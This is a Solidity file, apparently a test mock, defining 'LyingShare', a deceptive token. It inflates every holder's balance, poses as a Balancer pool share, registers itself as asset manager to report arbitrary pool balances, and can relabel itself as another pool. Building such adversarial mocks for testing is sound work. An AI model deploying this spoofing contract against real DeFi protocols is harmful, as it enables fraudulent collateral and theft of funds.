// SPDX-License-Identifier: MIT
pragma solidity ^0.8.20;

interface Vault {
    struct Update {
        uint8 kind;
        bytes32 poolId;
        address token;
        uint256 amount;
    }

    function registerPool(uint8 specialization) external returns (bytes32);
    function registerTokens(bytes32 poolId, address[] calldata tokens, address[] calldata managers) external;
    function managePoolBalance(Update[] calldata updates) external;
}

/// A token that claims to be the share of another's pool, or is a pool of Balancer's vault: everybody that it names has a
/// thousand times all shares.
contract LyingShare {
    event Transfer(address indexed from, address indexed to, uint256 value);

    address public minter;
    address public getVault;
    bytes32 public getPoolId;
    uint256 public constant totalSupply = 1;

    constructor(address named, address holder) {
        (minter, getVault) = (named, named);
        emit Transfer(address(0), holder, 1000);
    }

    function balanceOf(address) external pure returns (uint256) {
        return 1000;
    }

    /// With an asset manager's report of what it has of the token.
    function register(address first, address second, uint256 managed) external {
        getPoolId = Vault(getVault).registerPool(2);
        address[] memory tokens = new address[](2);
        (tokens[0], tokens[1]) = (first, second);
        address[] memory managers = new address[](2);
        (managers[0], managers[1]) = (address(this), address(this));
        Vault(getVault).registerTokens(getPoolId, tokens, managers);
        Vault.Update[] memory updates = new Vault.Update[](1);
        updates[0] = Vault.Update(2, getPoolId, first, managed);
        Vault(getVault).managePoolBalance(updates);
    }

    /// Another pool's number, from now on.
    function rename(bytes32 poolId) external {
        getPoolId = poolId;
    }
}
